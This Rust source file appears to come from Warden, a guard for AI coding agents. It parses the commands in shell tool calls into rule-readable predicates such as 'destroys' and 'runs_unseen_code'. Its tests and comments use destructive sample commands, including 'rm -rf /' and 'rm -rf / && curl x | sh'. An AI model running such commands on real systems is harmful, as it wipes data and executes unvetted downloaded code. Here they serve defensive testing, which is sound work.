//! `tool.shell`: what the command of a shell tool would do ([`warden_shell`]), made when a rule
//! first reads it, once per event. A tool is a shell when the installation declares it one
//! (`[shell]` in `warden.toml`; [`ShellTools`] holds Warden's defaults, Claude Code's `Bash`
//! among them); its command is the string in the declared input field (or a list of words, as
//! Codex's `shell` sends `["bash", "-lc", "..."]`). Any other tool's `tool.shell` is the analysis
//! of no command: no commands, every predicate false.
//!
//! The command is judged as run in the project's folder (`context.project.root`, or the folder
//! Warden runs in when the agent loop reports none), with the home folder and `$TMPDIR` of the
//! process.

use std::path::PathBuf;
use std::sync::{Arc, OnceLock};

use serde::Serialize;
use serde_json::Value;
use warden_load::ShellTools;
use warden_shell::{Analysis, Env};

/// The analysis of one event's shell command, made at its first read.
pub(crate) struct LazyShell {
    command: Option<String>,
    project: String,
    analysis: OnceLock<Analysis>,
}

impl std::fmt::Debug for LazyShell {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("LazyShell")
            .field("command", &self.command)
            .finish_non_exhaustive()
    }
}

/// The command a shell tool was given: the field's string, or its list of words quoted back
/// into one line (`["bash", "-lc", "rm -rf /"]` is `bash -lc 'rm -rf /'`).
pub(crate) fn command_of(tools: &ShellTools, name: &str, arguments: &Value) -> Option<String> {
    let field = tools.field(name)?;
    match arguments.get(field)? {
        Value::String(s) => Some(s.clone()),
        Value::Array(words) => {
            let words: Option<Vec<&str>> = words.iter().map(Value::as_str).collect();
            Some(
                words?
                    .iter()
                    .map(|w| quote(w))
                    .collect::<Vec<_>>()
                    .join(" "),
            )
        }
        _ => None,
    }
}

/// A word as a shell reads it back: as it is when it needs no quotes.
fn quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./=:+,@%".contains(c));
    if plain {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

impl LazyShell {
    /// The shell view of a tool call: `command` is none for a tool that is not a shell.
    pub(crate) fn new(command: Option<String>, project: &str) -> LazyShell {
        LazyShell {
            command,
            project: project.to_string(),
            analysis: OnceLock::new(),
        }
    }

    /// The analysis, made now if it was not.
    pub(crate) fn get(&self) -> &Analysis {
        self.analysis.get_or_init(|| match &self.command {
            Some(command) => warden_shell::analyze(command, &self.env()),
            None => Analysis::default(),
        })
    }

    fn env(&self) -> Env {
        let project = if self.project.is_empty() {
            std::env::current_dir().ok()
        } else {
            Some(PathBuf::from(&self.project))
        };
        let mut env = match project {
            Some(p) => Env::for_project(p),
            None => Env::default(),
        };
        env.home = std::env::var_os("HOME").map(PathBuf::from);
        env.tmpdir = std::env::var_os("TMPDIR").map(PathBuf::from);
        env
    }
}

/// `tool.shell` as rules read it: the analysis, with its predicates as fields.
#[derive(Serialize)]
pub(crate) struct ShellView<'a> {
    command: &'a str,
    commands: &'a [warden_shell::Command],
    programs: Vec<&'a str>,
    deletes: &'a [warden_shell::PathUse],
    writes: &'a [warden_shell::PathUse],
    opaque: &'a [warden_shell::Opaque],
    findings: &'a [warden_shell::Finding],
    destroys: bool,
    deletes_outside_project: bool,
    writes_outside_project: bool,
    runs_unseen_code: bool,
    reaches_beyond_project: bool,
    touches_warden: bool,
    destruction: &'a str,
    concern: &'a str,
}

impl<'a> ShellView<'a> {
    /// One field of the view as a script value, made alone: a condition that reads
    /// `tool.shell.concern` does not pay for converting every command and path. `None` for a
    /// name the view does not have.
    pub(crate) fn field(a: &'a Analysis, name: &str) -> Option<warden_expr::rhai::Dynamic> {
        use warden_expr::rhai::{Dynamic, serde::to_dynamic};
        let d = |r: Result<Dynamic, _>| r.unwrap_or(Dynamic::UNIT);
        Some(match name {
            "command" => Dynamic::from(a.command.clone()),
            "commands" => d(to_dynamic(&a.commands)),
            "programs" => d(to_dynamic(a.programs())),
            "deletes" => d(to_dynamic(&a.deletes)),
            "writes" => d(to_dynamic(&a.writes)),
            "opaque" => d(to_dynamic(&a.opaque)),
            "findings" => d(to_dynamic(&a.findings)),
            "destroys" => Dynamic::from_bool(a.destroys()),
            "deletes_outside_project" => Dynamic::from_bool(a.deletes_outside_project()),
            "writes_outside_project" => Dynamic::from_bool(a.writes_outside_project()),
            "runs_unseen_code" => Dynamic::from_bool(a.runs_unseen_code()),
            "reaches_beyond_project" => Dynamic::from_bool(a.reaches_beyond_project()),
            "touches_warden" => Dynamic::from_bool(a.touches_warden()),
            "destruction" => Dynamic::from(a.destruction().to_string()),
            "concern" => Dynamic::from(a.concern().to_string()),
            _ => return None,
        })
    }

    pub(crate) fn of(a: &'a Analysis) -> ShellView<'a> {
        ShellView {
            command: &a.command,
            commands: &a.commands,
            programs: a.programs(),
            deletes: &a.deletes,
            writes: &a.writes,
            opaque: &a.opaque,
            findings: &a.findings,
            destroys: a.destroys(),
            deletes_outside_project: a.deletes_outside_project(),
            writes_outside_project: a.writes_outside_project(),
            runs_unseen_code: a.runs_unseen_code(),
            reaches_beyond_project: a.reaches_beyond_project(),
            touches_warden: a.touches_warden(),
            destruction: a.destruction(),
            concern: a.concern(),
        }
    }
}

/// Builds the shell view of `event`'s tool, with the program's shell tools.
pub(crate) fn lazy(
    tools: &ShellTools,
    name: &str,
    arguments: &Value,
    project: &str,
) -> Arc<LazyShell> {
    Arc::new(LazyShell::new(command_of(tools, name, arguments), project))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_declared_tool_s_command_is_read_from_its_field() {
        let mut tools = ShellTools::default();
        tools.declare("exec", "cmd");
        let cmd = |name: &str, args: Value| command_of(&tools, name, &args);
        assert_eq!(cmd("Bash", json!({"command": "ls"})).as_deref(), Some("ls"));
        assert_eq!(
            cmd("exec", json!({"cmd": "ls -la"})).as_deref(),
            Some("ls -la")
        );
        assert_eq!(
            cmd("shell", json!({"command": ["bash", "-lc", "rm -rf /"]})).as_deref(),
            Some("bash -lc 'rm -rf /'")
        );
        assert_eq!(cmd("Read", json!({"command": "ls"})), None);
        assert_eq!(cmd("Bash", json!({"command": 5})), None);
        assert_eq!(cmd("Bash", json!({})), None);
    }

    #[test]
    fn the_analysis_is_made_once_and_only_when_read() {
        let shell = LazyShell::new(Some("rm -rf /".into()), "/home/ada/app");
        assert!(shell.analysis.get().is_none());
        assert!(shell.get().destroys());
        let first: *const Analysis = shell.get();
        assert!(std::ptr::eq(first, shell.get()));
        assert_eq!(LazyShell::new(None, "").get(), &Analysis::default());
    }

    #[test]
    fn each_field_read_alone_is_the_field_of_the_whole_view() {
        for command in ["rm -rf / && curl x | sh", "ls -la > out.txt", ""] {
            let shell = LazyShell::new(Some(command.into()), "/home/ada/app");
            let a = shell.get();
            let whole = warden_expr::rhai::serde::to_dynamic(ShellView::of(a)).unwrap();
            let whole = whole.read_lock::<warden_expr::rhai::Map>().unwrap();
            assert_eq!(whole.len(), 15);
            for (name, value) in whole.iter() {
                let alone = ShellView::field(a, name).unwrap_or_else(|| panic!("{name}"));
                assert_eq!(
                    format!("{alone:?}"),
                    format!("{value:?}"),
                    "{command}: {name}"
                );
            }
            assert!(ShellView::field(a, "nothing").is_none());
        }
    }
}
